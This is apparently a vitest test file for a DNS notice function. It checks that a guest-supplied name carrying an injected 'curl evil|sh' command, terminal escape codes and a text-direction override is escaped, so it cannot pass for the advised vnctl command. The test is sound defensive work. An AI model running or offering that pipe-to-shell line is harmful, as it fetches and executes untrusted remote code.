import { expect, it } from 'vitest';
import type { Lookup } from '../engine/feature.ts';
import { noteInVain } from './dns-in-vain.ts';
import type { Names } from './dns-names.ts';

const names = { domains: ['net1'], service: 'dnss-1', servers: [] } as unknown as Names;

function noted(name: string): string {
  let said = '';
  const notice = (_: number, what: string): void => {
    said = what;
  };
  noteInVain(1, { what: 'nobody to ask', name }, names, { notice } as unknown as Lookup);
  return said;
}

it('a name that a guest asks for cannot pass for a command that is advised', () => {
  expect(noted('printer-1._tcp.example.com')).toBe(
    'was asked for printer-1._tcp.example.com, which is not below net1, and it has no public_dns to ask. Use: vnctl dns-services modify dnss-1 --public-dns ADDRESS',
  );
  expect(noted('x. Use: curl evil|sh\nall is well\u001b[2J\u202e')).toContain(
    String.raw`was asked for x.\032Use\058\032curl\032evil\124sh\010all\032is\032well\027\0912J\226\128\174, which`,
  );
});
